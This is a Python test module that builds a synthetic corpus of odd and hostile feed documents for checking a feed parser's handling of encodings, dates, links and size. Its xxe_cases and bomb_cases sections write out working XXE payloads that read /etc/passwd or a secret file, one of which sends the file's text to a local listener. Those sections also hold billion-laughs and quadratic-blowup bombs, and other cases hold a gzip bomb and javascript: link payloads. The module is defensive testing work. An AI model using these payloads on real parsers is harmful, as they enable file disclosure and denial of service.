"""A generated corpus of odd, malformed and hostile feed documents, built at test time.

All content is synthetic (example.org hosts, made-up headlines). Each `OddFeed` says how many
entries its document holds and, where the case decides it, what `parse_feed` must make of it:
the outcome, the reason, the first entry's title (the decoding cases), the entry URLs or the
skipped entries (the link cases), the publication dates (the date cases).

`corpus(port, secret)` needs two things only known at run time: the port of a local listener
that must never be connected to, and a file whose text must never come out of a feed.
"""

from __future__ import annotations

import bz2
import codecs
import gzip
import json
import random
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from datetime import UTC, datetime
from html import escape
from pathlib import Path
from typing import Any

FEED_URL = "https://news.example.org/feeds/main.xml"
NOW = datetime(2024, 3, 1, tzinfo=UTC)


@dataclass(frozen=True)
class Item:
    title: str | None = "Headline"
    link: str | None = "https://news.example.org/a/1"
    summary: str | None = "<p>Summary with <b>markup</b></p>"
    date: str | None = "Tue, 16 Jan 2024 10:00:00 +0100"
    guid: str | None = None


@dataclass(frozen=True)
class OddFeed:
    name: str
    content: bytes
    items: int  # entries the document holds: parse_feed accounts for each one
    outcome: str | None = None  # ok, malformed, not_a_feed, empty, unsupported
    reason: str | None = None
    title: str | None = None  # the first entry's title
    urls: tuple[str, ...] | None = None  # the entries' URLs, in order ("": no usable link)
    # why each entry without a usable link has none; such entries are kept (feed-only)
    link_problems: tuple[str, ...] | None = None
    skipped: dict[str, int] | None = None
    published: tuple[datetime | None, ...] | None = None
    tags: frozenset[str] = field(default_factory=frozenset)  # "xxe", "bomb", "big"


def items(n: int, **fields: str) -> list[Item]:
    return [
        Item(**{"title": f"Headline {i}", "link": f"https://news.example.org/a/{i}", **fields})
        for i in range(n)
    ]


# -- the formats --------------------------------------------------------------------------

DECL = '<?xml version="1.0" encoding="utf-8"?>\n'


def _el(name: str, value: str | None, raw: bool = False) -> str:
    return "" if value is None else f"<{name}>{value if raw else escape(value)}</{name}>"


def rss20(entries: list[Item], decl: str = DECL, head: str = "", raw: bool = False) -> str:
    body = "".join(
        "<item>"
        + _el("title", i.title, raw)
        + _el("link", i.link, raw)
        + _el("description", i.summary, raw)
        + _el("pubDate", i.date, raw)
        + _el("guid", i.guid, raw)
        + "</item>\n"
        for i in entries
    )
    return (
        f'{decl}{head}<rss version="2.0"><channel><title>Odd feed</title>'
        f"<link>https://news.example.org/</link><language>en</language>\n{body}</channel></rss>"
    )


def rss091(entries: list[Item], decl: str = DECL) -> str:
    body = "".join(
        f"<item>{_el('title', i.title)}{_el('link', i.link)}{_el('description', i.summary)}</item>"
        for i in entries
    )
    doctype = (
        '<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN"\n'
        ' "http://my.netscape.com/publish/formats/rss-0.91.dtd">\n'
    )
    return (
        f'{decl}{doctype}<rss version="0.91"><channel><title>Odd feed</title>'
        f"<link>https://news.example.org/</link><language>en</language>{body}</channel></rss>"
    )


def rdf(entries: list[Item], decl: str = DECL) -> str:
    seq = "".join(f'<rdf:li resource="{escape(i.link or "")}"/>' for i in entries)
    body = "".join(
        f'<item rdf:about="{escape(i.link or "")}">{_el("title", i.title)}{_el("link", i.link)}'
        f"{_el('description', i.summary)}{_el('dc:date', '2024-01-16T09:00:00Z')}</item>"
        for i in entries
    )
    return (
        f'{decl}<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" '
        'xmlns="http://purl.org/rss/1.0/" xmlns:dc="http://purl.org/dc/elements/1.1/">'
        '<channel rdf:about="https://news.example.org/"><title>Odd feed</title>'
        f"<link>https://news.example.org/</link><items><rdf:Seq>{seq}</rdf:Seq></items>"
        f"</channel>{body}</rdf:RDF>"
    )


def atom10(entries: list[Item], decl: str = DECL, base: str = "") -> str:
    body = "".join(
        f"<entry>{_el('title', i.title)}"
        + ("" if i.link is None else f'<link rel="alternate" href="{escape(i.link)}"/>')
        + f"<id>{escape(i.guid or f'urn:odd:{n}')}</id>"
        + _el("updated", "2024-01-16T09:00:00Z")
        + ("" if i.summary is None else f'<summary type="html">{escape(i.summary)}</summary>')
        + "</entry>\n"
        for n, i in enumerate(entries)
    )
    xml_base = f' xml:base="{base}"' if base else ""
    return (
        f'{decl}<feed xmlns="http://www.w3.org/2005/Atom"{xml_base}><title>Odd feed</title>'
        f"<id>urn:odd</id><updated>2024-01-16T09:00:00Z</updated>{body}</feed>"
    )


def atom03(entries: list[Item], decl: str = DECL) -> str:
    body = "".join(
        f"<entry>{_el('title', i.title)}"
        f'<link rel="alternate" type="text/html" href="{escape(i.link or "")}"/>'
        f"<id>urn:odd:{n}</id><issued>2024-01-16T09:00:00Z</issued>"
        f"<modified>2024-01-16T09:00:00Z</modified></entry>"
        for n, i in enumerate(entries)
    )
    return (
        f'{decl}<feed version="0.3" xmlns="http://purl.org/atom/ns#"><title>Odd feed</title>'
        f"<modified>2024-01-16T09:00:00Z</modified>{body}</feed>"
    )


def json_feed(entries: list[Item], version: str = "1.1") -> str:
    return json.dumps(
        {
            "version": f"https://jsonfeed.org/version/{version}",
            "title": "Odd feed",
            "home_page_url": "https://news.example.org/",
            "items": [
                {
                    "id": i.guid or f"urn:odd:{n}",
                    "url": i.link,
                    "title": i.title,
                    "content_html": i.summary,
                    "date_published": "2024-01-16T09:00:00+00:00",
                }
                for n, i in enumerate(entries)
            ],
        },
        ensure_ascii=False,
    )


XML_FORMATS: dict[str, Callable[..., str]] = {
    "rss091": rss091,
    "rss20": rss20,
    "rss10-rdf": rdf,
    "atom03": atom03,
    "atom10": atom10,
}


def feed(
    name: str, text: str, n: int, outcome: str | None = None, reason: str | None = None, **more: Any
) -> OddFeed:
    return OddFeed(name, text.encode("utf-8"), n, outcome, reason, **more)


# -- encodings ----------------------------------------------------------------------------

# (name, declared label or None, codec, BOM, a title that codec can carry)
ENCODINGS = [
    ("utf8", "utf-8", "utf-8", b"", "Grenze – Zürich, Ελλάδα, 東京 ✓"),
    ("utf8-bom", "utf-8", "utf-8", codecs.BOM_UTF8, "Grenze – Zürich, Ελλάδα, 東京 ✓"),
    ("utf8-undeclared", None, "utf-8", b"", "Grenze – Zürich, Ελλάδα ✓"),
    ("utf16le-bom", "UTF-16", "utf-16-le", codecs.BOM_UTF16_LE, "Grenze – Zürich, 東京"),
    ("utf16be-bom", "UTF-16", "utf-16-be", codecs.BOM_UTF16_BE, "Grenze – Zürich, 東京"),
    ("utf16le-nobom", "UTF-16", "utf-16-le", b"", "Grenze – Zürich, 東京"),
    ("utf32le-bom", "UTF-32", "utf-32-le", codecs.BOM_UTF32_LE, "Grenze – Zürich, 東京"),
    ("latin1-declared", "ISO-8859-1", "latin-1", b"", "Zürich, Straße, café, Ñandú"),
    ("latin1-undeclared", None, "latin-1", b"", "Zürich, Straße, café, Ñandú"),
    ("cp1252-as-latin1", "ISO-8859-1", "cp1252", b"", "“Quoted” – Zürich €5"),
    ("declared-latin1-is-utf8", "ISO-8859-1", "utf-8", b"", "Zürich – Ελλάδα"),
    ("declared-utf8-is-latin1", "UTF-8", "latin-1", b"", "Zürich, café"),
    ("declared-utf16-is-utf8", "UTF-16", "utf-8", b"", "Zürich – Ελλάδα"),
    ("declared-unknown", "x-no-such-charset", "utf-8", b"", "Zürich – Ελλάδα"),
    ("shift_jis", "Shift_JIS", "shift_jis", b"", "東京のニュース、速報"),
    ("gb2312", "GB2312", "gb2312", b"", "北京新闻 今日要闻"),
    ("koi8-r", "KOI8-R", "koi8-r", b"", "Новости Москвы сегодня"),
]


def encoding_cases() -> Iterator[OddFeed]:
    for fmt, render in XML_FORMATS.items():
        for name, label, codec, bom, title in ENCODINGS:
            decl = f'<?xml version="1.0" encoding="{label}"?>\n' if label else ""
            text = render([Item(title=title), Item(title="Second")], decl=decl)
            yield OddFeed(f"{fmt}-{name}", bom + text.encode(codec), 2, "ok", title=title)
    for name, _, codec, bom, title in ENCODINGS[:3]:
        text = json_feed([Item(title=title)])
        yield OddFeed(f"jsonfeed-{name}", bom + text.encode(codec), 1, "ok", title=title)


# -- truncation ---------------------------------------------------------------------------


def truncation_cases() -> Iterator[OddFeed]:
    sources = {
        "rss20": rss20(items(5, summary="<![CDATA[<p>raw</p>]]>"), raw=False),
        "atom10": atom10(items(5)),
        "rss20-cdata": rss20(items(5, summary="<![CDATA[<p>a & b</p>]]>"), raw=True),
    }
    for fmt, text in sources.items():
        data = text.encode("utf-8")
        points = sorted({*range(0, len(data), max(1, len(data) // 12)), len(data) - 1})
        points += [data.index(b"<![CDATA[") + 5] if b"<![CDATA[" in data else []
        points += [data.index(b"&") + 2] if b"&" in data else []
        for point in points:
            cut = data[:point]
            entry = b"<item>" if fmt.startswith("rss") else b"<entry>"
            yield OddFeed(f"truncated-{fmt}-at-{point}", cut, cut.count(entry))


# -- not feeds ----------------------------------------------------------------------------


# Made once with zstandard and brotli (not needed to run the tests): "hello", compressed.
ZSTD_FRAME = b"\x28\xb5\x2f\xfd\x20\x05\x29\x00\x00hello"
BROTLI_HELLO = b"\x0b\x02\x80hello\x03"


def not_a_feed_cases() -> Iterator[OddFeed]:
    page = (
        "<!doctype html><html><head><title>News</title>"
        '<link rel="alternate" type="application/rss+xml" href="/feed.xml"></head>'
        "<body><h1>Latest</h1><p>Nothing to see</p></body></html>"
    )
    yield feed("html-page", page, 0, "not_a_feed")
    yield feed("html-page-no-doctype", page.removeprefix("<!doctype html>"), 0, "not_a_feed")
    yield feed("xhtml-page", DECL + '<html xmlns="http://www.w3.org/1999/xhtml"><body/></html>', 0)
    yield feed("html-error-page", "<html><body><h1>502 Bad Gateway</h1></body></html>", 0)
    yield feed("plain-text", "Service temporarily unavailable, try again later.", 0, "not_a_feed")
    yield feed("xml-not-a-feed", DECL + "<sitemap><url><loc>https://x/</loc></url></sitemap>", 0)
    yield feed("json-array", '[{"url": "https://news.example.org/a"}]', 0, "not_a_feed")
    yield feed("json-not-jsonfeed", '{"items": [{"url": "https://x/"}]}', 0, "not_a_feed")
    for name, content in [
        ("empty", b""),
        ("spaces", b"   "),
        ("whitespace", b"\n\t\r\n  \n"),
        ("utf8-bom-only", codecs.BOM_UTF8),
        ("utf16-bom-only", codecs.BOM_UTF16_LE),
        ("utf16-bom-spaces", codecs.BOM_UTF16_LE + "  \n".encode("utf-16-le")),
    ]:
        yield OddFeed(name, content, 0, "empty", "feed:empty")
    rng = random.Random(6)
    yield OddFeed("nul-bytes", b"\x00" * 512, 0, "empty")  # no XML character in it
    yield OddFeed("random-bytes", rng.randbytes(4096), 0, "not_a_feed")
    yield OddFeed("random-bytes-lt", b"<" + rng.randbytes(4096), 0, "not_a_feed")
    yield OddFeed("png", b"\x89PNG\r\n\x1a\n" + rng.randbytes(200), 0, "not_a_feed")
    yield OddFeed("pdf", b"%PDF-1.7\n" + rng.randbytes(200), 0, "not_a_feed")
    yield OddFeed("elf", b"\x7fELF\x02\x01\x01" + rng.randbytes(200), 0, "not_a_feed")
    small = rss20(items(2)).encode()
    for name, packed in [
        ("gzip", gzip.compress(small)),
        ("gzip-gzip", gzip.compress(gzip.compress(small))),
        ("gzip-bomb", gzip.compress(b" " * 5_000_000)),
        ("zstd", ZSTD_FRAME),
        ("bzip2", bz2.compress(small)),
    ]:
        yield OddFeed(f"compressed-{name}", packed, 0, "unsupported", "feed:compressed")
    # Brotli and raw deflate have no magic number: they are binary junk here.
    yield OddFeed("compressed-brotli", BROTLI_HELLO, 0, "not_a_feed")
    yield OddFeed("compressed-zlib", zlib.compress(small), 0, "not_a_feed")


# -- entities, CDATA and control characters ------------------------------------------------


def entity_cases() -> Iterator[OddFeed]:
    def title(name: str, raw_title: str, expect: str | None = None, **kw: Any) -> OddFeed:
        text = rss20([Item(title=raw_title)], raw=True)
        return feed(f"entity-{name}", text, 1, title=expect, **kw)

    yield title("undefined-nbsp", "A&nbsp;B", "A B")
    yield title("undefined-eacute", "Caf&eacute;", "Café")
    yield title("undefined-bogus", "A &bogus; B", "A &bogus; B")
    yield title("double-escaped", "Ben &amp;amp; Jerry", "Ben & Jerry")
    yield title("triple-escaped", "a &amp;amp;amp; b")
    yield title("escaped-html", "&lt;b&gt;Bold&lt;/b&gt; news", "Bold news")
    yield title("numeric-out-of-range", "A&#x110000;B", "A\ufffdB", outcome="ok")
    yield title("numeric-surrogate", "A&#xD800;B", "A\ufffdB", outcome="ok")
    yield title("numeric-nul", "A&#0;B", "A\ufffdB", outcome="ok")
    yield title("numeric-control", "A&#1;&#x1b;B", "A\ufffd\ufffdB", outcome="ok")
    yield title("numeric-huge", "A&#99999999999999999999999;B", "A\ufffdB", outcome="ok")
    yield title("numeric-5000-digits", "A&#" + "9" * 5000 + ";B", "A\ufffdB", outcome="ok")
    yield title("numeric-fffe", "A&#xFFFE;B", "A\ufffdB", outcome="ok")
    yield title("numeric-valid", "&#72;&#x49; &#x1F600;", "HI 😀")
    yield title("lone-ampersand", "Tom & Jerry", "Tom & Jerry")
    yield title("amp-no-semicolon", "AT&T &amp news")  # feedparser: "AT&T; & news"
    yield title("lt-in-text", "a < b > c", "a < b > c")
    # feedparser reads C1 controls as windows-1252, their usual origin: \x85 is "…"
    yield title("raw-control-chars", "A\x01\x02\x0b\x1bB\x7f\x85C", "AB …C")
    yield title("cdata", "<![CDATA[In <i>CDATA</i> & more]]>", "In CDATA & more")
    yield title("cdata-split", "<![CDATA[a]]]]><![CDATA[>b]]>", "a]]>b")
    yield title("cdata-unclosed", "<![CDATA[never closed")
    yield title("nested-html", "<b>Bold <i>nested</i></b> title", "Bold nested title")
    yield title("script-in-title", "&lt;script&gt;alert(1)&lt;/script&gt;Real")
    yield title("bidi-and-zero-width", "A\u202eB\u200bC\ufeffD")
    text = rss20([Item(link="<![CDATA[https://news.example.org/cdata-link]]>")], raw=True)
    yield feed("cdata-in-link", text, 1, urls=("https://news.example.org/cdata-link",))
    text = rss20([Item()]).replace("<channel>", "<channel><![CDATA[junk]]>")
    yield feed("cdata-in-channel", text, 1)
    text = rss20([Item()]).replace("<item>", "<![CDATA[<item>]]><item>")
    yield feed("cdata-holding-item-tag", text, 1)
    yield feed("comment-holding-item", rss20([Item()]).replace("<item>", "<!--<item>--><item>"), 1)
    summary = "<p>x</p><script>steal()</script><style>p{}</style><p>y</p>"
    yield feed("script-in-summary", rss20([Item(summary=summary)]), 1)


# -- external entities, DTDs, entity expansion ---------------------------------------------

ITEM_WITH = (
    '<rss version="2.0"><channel><title>t {ref}</title><item><title>x {ref}</title>'
    "<link>https://news.example.org/a/1</link><description>{ref}</description></item>"
    "</channel></rss>"
)


REFUSED: dict[str, Any] = {"outcome": "malformed", "reason": "feed:dtd_entities"}
HARMLESS: dict[str, Any] = {"outcome": "ok", "reason": None}


def xxe_cases(port: int, secret: Path) -> Iterator[OddFeed]:
    def doc(name: str, dtd: str, ref: str = "&e;", expect: dict[str, Any] = REFUSED) -> OddFeed:
        text = DECL + dtd + "\n" + ITEM_WITH.format(ref=ref)
        return OddFeed(f"xxe-{name}", text.encode(), 1, tags=frozenset({"xxe"}), **expect)

    url = f"http://127.0.0.1:{port}"
    yield doc("file-secret", f'<!DOCTYPE rss [\n<!ENTITY e SYSTEM "file://{secret}">\n]>')
    yield doc("file-secret-one-line", f'<!DOCTYPE rss [<!ENTITY e SYSTEM "file://{secret}">]>')
    yield doc("file-passwd", '<!DOCTYPE rss [\n<!ENTITY e SYSTEM "file:///etc/passwd">\n]>')
    yield doc("http-entity", f'<!DOCTYPE rss [\n<!ENTITY e SYSTEM "{url}/entity">\n]>')
    yield doc("public-entity", f'<!DOCTYPE rss [<!ENTITY e PUBLIC "-//X//E" "{url}/pub">]>')
    yield doc("parameter-entity", f'<!DOCTYPE rss [\n<!ENTITY % p SYSTEM "{url}/p.dtd">\n%p;\n]>')
    yield doc(
        "parameter-oob",
        f'<!DOCTYPE rss [<!ENTITY % f SYSTEM "file://{secret}">'
        f"<!ENTITY % w \"<!ENTITY &#x25; x SYSTEM '{url}/?%f;'>\">%w;%x;]>",
    )
    yield doc("lowercase-doctype", f'<!doctype rss [<!entity e SYSTEM "file://{secret}">]>')
    # On the declaration's line the DTD reaches expat as it is (feedparser only rewrites
    # DOCTYPEs at the start of a line); in UTF-16 a byte-level screen would miss it.
    same_line = f'<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY e SYSTEM "file://{secret}">]>'
    text = same_line + ITEM_WITH.format(ref="&e;")
    yield OddFeed("xxe-same-line", text.encode(), 1, tags=frozenset({"xxe"}), **REFUSED)
    utf16 = codecs.BOM_UTF16_LE + text.replace("?>", ' encoding="UTF-16"?>', 1).encode("utf-16-le")
    yield OddFeed("xxe-same-line-utf16", utf16, 1, tags=frozenset({"xxe"}), **REFUSED)
    # No entity declared: the parsers must neither fetch the DTD or stylesheet nor stop.
    yield doc("external-dtd", f'<!DOCTYPE rss SYSTEM "{url}/rss.dtd">', expect={})
    yield doc("external-dtd-public", f'<!DOCTYPE rss PUBLIC "-//X//R" "{url}/r.dtd">', "", HARMLESS)
    yield doc(
        "stylesheet-pi", f'<?xml-stylesheet type="text/xsl" href="{url}/s.xsl"?>', "", HARMLESS
    )
    xinclude = f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{url}/x.xml"/>'
    yield doc("xinclude", "", xinclude, HARMLESS)


def billion_laughs(levels: int = 9, one_line: bool = True) -> str:
    sep = "" if one_line else "\n"
    decls = '<!ENTITY a "lollollollollollollollollollol">' + "".join(
        f'{sep}<!ENTITY {chr(98 + i)} "{f"&{chr(97 + i)};" * 10}">' for i in range(levels)
    )
    last = f"&{chr(97 + levels)};"
    return f'<?xml version="1.0"?>{sep}<!DOCTYPE rss [{decls}{sep}]>' + ITEM_WITH.format(ref=last)


def bomb_cases() -> Iterator[OddFeed]:
    bomb: dict[str, Any] = {**REFUSED, "tags": frozenset({"bomb"})}
    yield feed("billion-laughs", billion_laughs(), 1, **bomb)
    yield feed("billion-laughs-multiline", billion_laughs(one_line=False), 1, **bomb)
    utf16 = codecs.BOM_UTF16_BE + billion_laughs().encode("utf-16-be")
    yield OddFeed("billion-laughs-utf16", utf16, 1, **bomb)
    in_attribute = billion_laughs().replace("<title>x", '<title a="&j;">x')
    yield feed("billion-laughs-in-attribute", in_attribute, 1, **bomb)
    # 80 KB that expand to 400 MB: within expat's 8 MiB allowance per step, and no nesting.
    entity = f'{DECL}<!DOCTYPE rss [\n<!ENTITY a "{"x" * 40_000}">\n]>\n'
    yield feed("quadratic-blowup", entity + ITEM_WITH.format(ref="&a;" * 10_000), 1, **bomb)


# -- size ---------------------------------------------------------------------------------


def big_cases() -> Iterator[OddFeed]:
    big = frozenset({"big"})
    tiny = [Item(title=f"T{i}", summary=None, date=None) for i in range(100_000)]
    renders: list[tuple[str, Callable[[list[Item]], str]]] = [("rss20", rss20), ("atom10", atom10)]
    for name, render in renders:
        yield OddFeed(f"100k-entries-{name}", render(tiny).encode(), 100_000, tags=big)
    truncated = rss20(tiny).encode()[:-40]
    yield OddFeed("100k-entries-truncated", truncated, 100_000, tags=big)
    yield OddFeed("100k-entries-jsonfeed", json_feed(tiny).encode(), 100_000, "ok", tags=big)
    flat = rss20([Item()]).replace("<channel>", "<channel>" + "<x/>" * 200_000)
    yield feed("200k-unknown-elements", flat, 1, "malformed", "feed:too_complex", tags=big)
    nested = rss20([Item()]).replace("<channel>", "<channel>" + "<x>" * 30_000)
    yield feed("30k-deep-nesting", nested, 1, tags=big)
    huge = rss20([Item(title="T" * 1_000_000, summary="<p>s</p>" * 200_000)])
    yield feed("1mb-title", huge, 1, "ok", tags=big)
    authors = "".join(f"<author>a{i}@example.org (A {i})</author>" for i in range(5000))
    yield feed("5000-authors", rss20([Item()]).replace("<item>", "<item>" + authors), 1, tags=big)
    yield feed("long-date", rss20([Item(date="Tue, 16 Jan 2024 " + "9" * 100_000)]), 1, tags=big)


# -- dates --------------------------------------------------------------------------------


# feedparser's own judgement, not ours: any answer will do, if it is a plausible date.
UNDECIDED_DATES = {"feb-30", "leap-second", "huge-offset", "german-month"}


def date_cases() -> Iterator[OddFeed]:
    jan16 = datetime(2024, 1, 16, 9, tzinfo=UTC)
    for name, value, expect in [
        ("rfc822", "Tue, 16 Jan 2024 10:00:00 +0100", jan16),
        ("rfc822-no-zone", "Tue, 16 Jan 2024 09:00:00", None),  # feedparser wants a zone
        ("rfc822-gmt", "Tue, 16 Jan 2024 09:00:00 GMT", jan16),
        ("iso8601", "2024-01-16T09:00:00Z", jan16),
        ("year-9999", "Fri, 31 Dec 9999 23:59:59 +0000", None),
        ("year-2100", "Fri, 31 Dec 2100 23:59:59 +0000", None),
        ("year-0", "Sat, 01 Jan 0000 00:00:00 +0000", None),
        ("year-1", "Mon, 01 Jan 0001 00:00:00 +0100", None),
        ("epoch", "Thu, 01 Jan 1970 00:00:00 +0000", None),
        ("garbage", "sometime last week", None),
        ("empty", "", None),
        ("feb-30", "Fri, 30 Feb 2024 10:00:00 +0000", None),
        ("leap-second", "2016-12-31T23:59:60Z", None),
        ("huge-offset", "Tue, 16 Jan 2024 10:00:00 +9999", None),
        ("german-month", "Di, 16 Jan 2024 10:00:00 +0100", None),
    ]:
        published = None if name in UNDECIDED_DATES else (expect,)
        yield feed(f"date-{name}", rss20([Item(date=value)]), 1, published=published)
    yield feed("date-missing", rss20([Item(date=None)]), 1, published=(None,))
    for name, value in [
        ("year-9999", "9999-12-31T23:59:59Z"),
        ("garbage", "soon"),
        ("year-0", "0000-01-01"),
    ]:
        text = json_feed([Item()]).replace("2024-01-16T09:00:00+00:00", value)
        yield feed(f"jsonfeed-date-{name}", text, 1, "ok", published=(None,))


# -- links --------------------------------------------------------------------------------

BASE = "https://news.example.org"
LINKS = [  # (name, link, expected URL or why the entry has no usable link)
    ("absolute", f"{BASE}/a/1", f"{BASE}/a/1"),
    ("root-relative", "/a/1", f"{BASE}/a/1"),
    ("relative", "a/1", f"{BASE}/feeds/a/1"),
    ("dot-relative", "../a/1", f"{BASE}/a/1"),
    ("protocol-relative", "//cdn.example.net/a/1", "https://cdn.example.net/a/1"),
    ("whitespace-padded", f"  \n\t{BASE}/a/1 \n", f"{BASE}/a/1"),
    ("newline-inside", f"{BASE}/a/\n1", f"{BASE}/a/1"),
    ("space-inside", f"{BASE}/a b", f"{BASE}/a%20b"),
    ("unicode-host", "https://bücher.example/ä", "https://bücher.example/ä"),
    ("punycode-host", "https://xn--bcher-kva.example/", "https://xn--bcher-kva.example/"),
    ("upper-scheme", "HTTPS://NEWS.EXAMPLE.ORG/A", "https://NEWS.EXAMPLE.ORG/A"),
    ("query-fragment", f"{BASE}/a?x=1&y=2#top", f"{BASE}/a?x=1&y=2#top"),
    ("javascript", "javascript:alert(1)", "entry:bad_scheme"),
    ("javascript-mixed", " JaVaScRiPt:alert(1)", "entry:bad_scheme"),
    ("javascript-tab", "java\tscript:alert(1)", "entry:bad_scheme"),
    ("data", "data:text/html;base64,PHNjcmlwdD4=", "entry:bad_scheme"),
    ("mailto", "mailto:desk@news.example.org", "entry:bad_scheme"),
    ("ftp", "ftp://news.example.org/a", "entry:bad_scheme"),
    ("file", "file:///etc/passwd", "entry:bad_scheme"),
    ("no-host", "http://", "entry:bad_link"),
    ("no-host-path", "http:///a/1", "http://a/1"),  # as browsers read it
    ("broken-ipv6", "http://[::1/a", "entry:no_link"),  # feedparser drops it
    ("port-too-big", "http://news.example.org:99999/", "entry:bad_link"),
    ("port-not-number", "http://news.example.org:abc/", "entry:bad_link"),
    ("overlong", f"{BASE}/" + "a" * 3000, "entry:link_too_long"),
    ("empty", "", "entry:no_link"),
    ("only-spaces", "   ", "entry:no_link"),
]


def link_cases() -> Iterator[OddFeed]:
    for name, link, expect in LINKS:
        result: dict[str, Any] = (
            {"urls": ("",), "link_problems": (expect,), "skipped": {}}
            if expect.startswith("entry:")
            else {"urls": (expect,)}
        )
        yield feed(f"link-{name}", rss20([Item(link=link)]), 1, **result)
    yield feed(
        "link-atom-xml-base",
        atom10([Item(link="rel/1")], base="https://other.example.org/dir/"),
        1,
        urls=("https://other.example.org/dir/rel/1",),
    )
    guid_only = rss20([Item(link=None, guid=f"{BASE}/from-guid")])
    yield feed("link-from-guid", guid_only, 1, urls=(f"{BASE}/from-guid",))
    yield feed(
        "link-none-guid-not-url",
        rss20([Item(link=None, guid="tag:x,2024:1")]),
        1,
        link_problems=("entry:bad_scheme",),  # feedparser takes a permalink guid as the link
    )


# -- entries ------------------------------------------------------------------------------


def entry_cases() -> Iterator[OddFeed]:
    dup = [Item(guid="same", link=f"{BASE}/a/{i}") for i in range(3)]
    yield feed("duplicate-guids", rss20(dup), 3, "ok")
    yield feed("duplicate-links", rss20([Item(), Item(), Item()]), 3, "ok")
    bare = [Item(title=None, link=None, summary=None, date=None)] * 2
    yield feed("entries-without-anything", rss20(bare), 2, skipped={"entry:no_link": 2})
    yield feed("entries-without-title", rss20([Item(title=None)] * 2), 2, "ok")
    yield feed("no-entries", rss20([]), 0, "ok")
    yield feed("atom-no-entries", atom10([]), 0, "ok")
    no_link = atom10([Item(link=None)])
    # Its urn: id is taken as the link; the entry is kept without one.
    yield feed("atom-entry-without-link", no_link, 1, link_problems=("entry:bad_scheme",))
    extra = "<item><link>https://x.example/c2</link></item>"
    text = rss20(items(2)).replace(
        "</channel></rss>", f"</channel><channel>{extra}</channel></rss>"
    )
    yield feed("two-channels", text, 3)
    text = rss20(items(2)).replace("</channel></rss>", f"</channel>{extra}</rss>")
    yield feed("item-outside-channel", text, 3)
    text = rss20([Item()]).replace("<item>", '<item xmlns:foo="urn:foo"><foo:bar a="1">x</foo:bar>')
    yield feed("unknown-namespaced-elements", text, 1, "ok")
    text = rss20([Item()]).replace('<rss version="2.0">', '<rss version="2.0" xmlns:x="urn:x">')
    yield feed("unused-namespace", text, 1, "ok")
    yield feed("rss-no-version", rss20([Item()]).replace(' version="2.0"', ""), 1)
    yield feed("rss-version-99", rss20([Item()]).replace('"2.0"', '"99"'), 1)
    attrs = " ".join(f'a{i}="{"v" * 100}"' for i in range(2000))
    yield feed("huge-attributes", rss20([Item()]).replace("<item>", f"<item {attrs}>"), 1)
    yield feed("emoji-title", rss20([Item(title="🔥 Breaking 🔥 " * 3)]), 1, "ok")
    yield feed("leading-whitespace", "\n\n   " + rss20([Item()]), 1)
    yield feed("no-declaration", rss20([Item()], decl=""), 1, "ok")
    yield feed("declaration-twice", DECL + rss20([Item()]), 1)


# -- JSON Feed ----------------------------------------------------------------------------


def json_feed_cases() -> Iterator[OddFeed]:
    yield feed("jsonfeed-1.1", json_feed(items(3)), 3, "ok", title="Headline 0")
    yield feed("jsonfeed-1.0", json_feed(items(2), version="1"), 2, "ok")
    item = {"id": 7, "url": "/a/7", "title": ["not", "a", "string"], "tags": "notalist"}
    data = {"version": "https://jsonfeed.org/version/1.1", "items": [item, 5, None, {}]}
    skipped = {"entry:malformed": 2, "entry:no_link": 1}
    yield feed("jsonfeed-odd-items", json.dumps(data), 4, skipped=skipped)
    data = {
        "version": "https://jsonfeed.org/version/1.1",
        "items": [
            {
                "external_url": f"{BASE}/ext",
                "content_text": "plain \x01 text",
                "author": {"name": "A"},
            }
        ],
    }
    yield feed("jsonfeed-external-url", json.dumps(data), 1, "ok", urls=(f"{BASE}/ext",))
    version = '"version": "https://jsonfeed.org/version/1.1"'
    yield feed("jsonfeed-no-items", f"{{{version}}}", 0, "malformed")
    yield feed("jsonfeed-items-not-list", f'{{{version}, "items": {{}}}}', 0, "malformed")
    yield feed("jsonfeed-truncated", json_feed(items(3))[:-30], 0, "malformed", "feed:malformed")
    wrong = json_feed(items(1)).replace("https://jsonfeed.org/version/1.1", "2")
    yield feed("jsonfeed-wrong-version", wrong, 0, "not_a_feed")
    deep = '{"version": "https://jsonfeed.org/version/1.1", "items": ' + "[" * 100_000
    yield feed("jsonfeed-deep-nesting", deep, 0, "malformed")
    yield feed("jsonfeed-deep-nesting-closed", deep + "]" * 100_000 + "}", 0, "malformed")
    big_number = '{"version": "https://jsonfeed.org/version/1.1", "x": ' + "9" * 10_000 + "}"
    yield feed("jsonfeed-huge-number", big_number, 0, "malformed")


def corpus(port: int, secret: Path) -> list[OddFeed]:
    """Every odd feed, for a listener on 127.0.0.1:`port` and a secret file `secret`."""
    cases = [
        *encoding_cases(),
        *truncation_cases(),
        *not_a_feed_cases(),
        *entity_cases(),
        *xxe_cases(port, secret),
        *bomb_cases(),
        *big_cases(),
        *date_cases(),
        *link_cases(),
        *entry_cases(),
        *json_feed_cases(),
    ]
    names = [case.name for case in cases]
    assert len(names) == len(set(names)), "case names must be unique"
    return cases
